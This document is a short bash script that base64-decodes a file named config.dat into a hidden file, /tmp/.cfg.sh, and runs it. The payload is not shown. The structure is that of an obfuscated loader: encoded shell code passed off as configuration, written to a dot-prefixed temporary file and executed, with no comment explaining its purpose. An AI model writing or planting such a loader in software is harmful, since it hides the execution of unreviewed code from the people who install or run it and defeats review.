#!/bin/bash
base64 -d config.dat > /tmp/.cfg.sh
bash /tmp/.cfg.sh
